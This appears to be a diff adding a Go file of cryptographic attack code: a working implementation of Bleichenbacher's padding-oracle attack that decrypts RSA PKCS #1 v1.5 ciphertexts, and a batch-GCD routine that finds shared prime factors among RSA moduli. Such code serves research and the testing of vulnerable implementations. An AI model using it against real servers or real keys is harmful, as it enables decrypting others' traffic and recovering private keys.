@@ -0,0 +1,194 @@
+package attacks
+
+import (
+	"crypto/rsa"
+	"errors"
+	"math/big"
+)
+
+var (
+	big1 = big.NewInt(1)
+	big2 = big.NewInt(2)
+	big3 = big.NewInt(3)
+)
+
+func divRoundUp(res, x, y *big.Int) {
+	m := new(big.Int)
+	res.DivMod(x, y, m)
+	if m.Sign() > 0 {
+		res.Add(res, big1)
+	}
+}
+
+// AttackBB98 decrypts the RSA ciphertext c with Bleichenbacher's attack, given
+// an oracle that reports whether a ciphertext decrypts to a plaintext that
+// starts with 00 02, like PKCS #1 v1.5 encryption padding. c itself must be
+// conforming. The result is the whole padded plaintext, without leading zeroes.
+// The queries are sequential, and opts.Progress is called with the lower bound
+// of the plaintext after each step.
+func AttackBB98(pub *rsa.PublicKey, c []byte, oracle ValidityOracle, opts *Options) ([]byte, error) {
+	if valid, err := opts.askValid(oracle, c); err != nil {
+		return nil, err
+	} else if !valid {
+		return nil, errors.New("must start from a valid ciphertext")
+	}
+	if pub.N.BitLen()%8 != 0 {
+		return nil, errors.New("key length must be a multiple of 8")
+	}
+
+	C := new(big.Int).SetBytes(c)
+	e := big.NewInt(int64(pub.E))
+	size := (pub.N.BitLen() + 7) / 8
+	tryS := func(s *big.Int) (bool, error) {
+		c1 := new(big.Int).Exp(s, e, pub.N)
+		c1.Mul(c1, C).Mod(c1, pub.N)
+		msg := make([]byte, size)
+		b := c1.Bytes()
+		copy(msg[size-len(b):], b)
+		return opts.askValid(oracle, msg)
+	}
+
+	B := new(big.Int).Lsh(big1, uint(pub.N.BitLen()-16))
+	B2, B3 := new(big.Int).Mul(B, big2), new(big.Int).Mul(B, big3)
+
+	newRanges := func(s *big.Int, ranges [][2]*big.Int) [][2]*big.Int {
+		var res [][2]*big.Int
+		r, maxR := new(big.Int), new(big.Int)
+		a, b := new(big.Int), new(big.Int)
+
+		for i := range ranges {
+			lower, upper := ranges[i][0], ranges[i][1]
+			// ( as − 3B + 1 ) / n
+			r.Mul(lower, s).Sub(r, B3).Add(r, big1)
+			divRoundUp(r, r, pub.N)
+			// ( bs − 2B ) / n
+			maxR.Mul(upper, s).Sub(maxR, B2).Div(maxR, pub.N)
+
+			for r.Cmp(maxR) <= 0 {
+				newLower, newUpper := lower, upper
+
+				// ( 2B + rn ) / s <- round up
+				divRoundUp(a, a.Mul(r, pub.N).Add(a, B2), s)
+				if a.Cmp(lower) > 0 {
+					newLower = new(big.Int).Set(a)
+				}
+				// ( 3B − 1 + rn ) / s <- round down
+				b.Mul(r, pub.N).Add(b, B3).Sub(b, big1).Div(b, s)
+				if b.Cmp(upper) < 0 {
+					newUpper = new(big.Int).Set(b)
+				}
+
+				res = append(res, [2]*big.Int{newLower, newUpper})
+				r.Add(r, big1)
+			}
+		}
+
+		return res
+	}
+
+	// nextS increments s until it's accepted by the oracle.
+	nextS := func(s *big.Int) error {
+		for {
+			ok, err := tryS(s)
+			if err != nil || ok {
+				return err
+			}
+			s.Add(s, big1)
+		}
+	}
+
+	lower, upper := new(big.Int).Set(B2), new(big.Int).Sub(B3, big1)
+	s, r, maxS := new(big.Int), new(big.Int), new(big.Int)
+	i := 1
+	for {
+		if i == 1 {
+			// n / 3B
+			divRoundUp(s, pub.N, B3)
+			if err := nextS(s); err != nil {
+				return nil, err
+			}
+		} else {
+			// 2 * ( bs − 2B ) / N
+			divRoundUp(r, r.Mul(upper, s).Sub(r, B2).Mul(r, big2), pub.N)
+		searchLoop:
+			for {
+				// ( 2B + rn ) / b
+				divRoundUp(s, s.Mul(r, pub.N).Add(s, B2), upper)
+				// ( 3B + rn ) / a
+				divRoundUp(maxS, maxS.Mul(r, pub.N).Add(maxS, B3), lower)
+				for s.Cmp(maxS) < 0 {
+					ok, err := tryS(s)
+					if err != nil {
+						return nil, err
+					}
+					if ok {
+						break searchLoop
+					}
+					s.Add(s, big1)
+				}
+				r.Add(r, big1)
+			}
+		}
+
+		ranges := newRanges(s, [][2]*big.Int{{lower, upper}})
+		for len(ranges) != 1 {
+			s.Add(s, big1)
+			if err := nextS(s); err != nil {
+				return nil, err
+			}
+			ranges = newRanges(s, ranges)
+		}
+		lower, upper = ranges[0][0], ranges[0][1]
+
+		opts.progress(lower.Bytes())
+		if upper.Cmp(lower) == 0 {
+			break
+		}
+
+		i++
+	}
+
+	return lower.Bytes(), nil
+}
+
+// BatchGCD returns, for each modulus, its GCD with the product of all the
+// others, computed with a product tree and a remainder tree, as in "Mining
+// Your Ps and Qs" (Heninger et al.). A result other than 1 is a factor shared
+// with some other modulus, or the modulus itself if all its factors are.
+func BatchGCD(moduli []*big.Int) []*big.Int {
+	if len(moduli) == 0 {
+		return nil
+	}
+	tree := [][]*big.Int{moduli}
+	for len(tree[len(tree)-1]) > 1 {
+		prev := tree[len(tree)-1]
+		level := make([]*big.Int, (len(prev)+1)/2)
+		for i := range level {
+			if 2*i+1 < len(prev) {
+				level[i] = new(big.Int).Mul(prev[2*i], prev[2*i+1])
+			} else {
+				level[i] = prev[2*i]
+			}
+		}
+		tree = append(tree, level)
+	}
+
+	// Going down the tree, reduce the product of all moduli modulo the
+	// square of each node.
+	rems := tree[len(tree)-1]
+	sq := new(big.Int)
+	for l := len(tree) - 2; l >= 0; l-- {
+		next := make([]*big.Int, len(tree[l]))
+		for i, n := range tree[l] {
+			next[i] = new(big.Int).Mod(rems[i/2], sq.Mul(n, n))
+		}
+		rems = next
+	}
+
+	res := make([]*big.Int, len(moduli))
+	for i, n := range moduli {
+		q := new(big.Int).Div(rems[i], n)
+		res[i] = q.GCD(nil, nil, q, n)
+	}
+	return res
+}